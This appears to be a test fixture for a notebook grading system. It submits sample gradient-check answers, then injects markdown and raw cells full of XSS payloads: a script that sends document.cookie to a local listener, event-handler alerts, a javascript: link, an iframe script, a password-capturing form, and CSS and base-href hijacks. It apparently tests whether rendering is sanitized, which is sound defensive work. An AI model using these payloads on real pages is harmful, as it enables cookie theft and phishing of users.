"""Markdown answers with scripts, event handlers and pictures that phone home.

deserves: 8
"""

GRADIENT_CHECK = """
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    approx = (forward_propagation(x, theta + epsilon) - forward_propagation(x, theta - epsilon)) / (2 * epsilon)
    grad = backward_propagation(x, theta)
    return abs(grad - approx) / (abs(grad) + abs(approx))
"""

TEXT = """
<script>fetch("http://127.0.0.1:48484/?" + document.cookie)</script>
<img src="http://127.0.0.1:48484/seen.png" onerror="alert('script')"> [click](javascript:alert(1))
![x](http://127.0.0.1:48484/x.png) <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="http://127.0.0.1:48484/"><input name=password autofocus onfocus=alert(1)></form>
<style>@import url("http://127.0.0.1:48484/style.css"); body { display: none }</style><base href="http://127.0.0.1:48484/">
"""


def attack(work):
    work.answer("forward", "def forward_propagation(x, theta):\n    return theta * x")
    work.answer("backward", "def backward_propagation(x, theta):\n    return x")
    work.answer("gradient_check", GRADIENT_CHECK)
    work.add(TEXT, cell_type="markdown")
    work.add(TEXT, before="test_forward", cell_type="raw")
